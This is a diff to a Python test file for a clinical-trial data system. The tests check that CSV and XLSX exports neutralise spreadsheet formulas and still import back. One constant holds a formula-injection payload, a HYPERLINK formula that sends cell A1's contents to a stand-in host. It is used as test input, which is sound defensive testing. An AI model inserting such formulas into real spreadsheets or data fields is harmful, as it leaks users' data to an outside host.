@@ -13,9 +13,10 @@ from openpyxl import load_workbook
 
 from cairo6.report.cells import TRIGGERS, neutralise, recover
 from cairo6.report.files import Sheet, _csv, _xlsx
-from cairo6.service import exchange_export, forms
-from cairo6.service.dictionary import file_variables
+from cairo6.service import exchange_export
+from cairo6.service.dictionary import exchange_variables
 from cairo6.service.exchange_tables import parse_cell
+from cairo6.service.records import record_form
 from tests.service.conftest import Site, enrol, site  # noqa: F401  (the `site` fixture)
 
 ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
@@ -61,16 +62,17 @@ def test_report_tables_in_csv_and_xlsx_hold_no_formula(tmp_path: Path) -> None:
 @pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
 def test_exported_text_holds_no_formula_and_imports_back(site: Site, tmp_path: Path) -> None:  # noqa: F811
     person = enrol(site, site.dm).study_number
-    forms.record(
+    record_form(
         site.trial,
         site.dm,
-        "toxicity",
         person,
+        "toxicity",
         {"term": ATTACK, "grade": 2, "phase": "neoadjuvant"},
     )
     tmp_path = tmp_path / "export"
     exchange_export.export_csv(site.trial, site.stat, tmp_path)
-    entries = {e.variable: e for e in file_variables(site.trial.protocol)["toxicity"]}
+    columns = exchange_variables(site.trial.protocol, site.trial.study)
+    entries = {e.variable: e for e in columns["toxicity"]}
     with (tmp_path / "toxicity.csv").open(encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
     for path in tmp_path.glob("*.csv"):
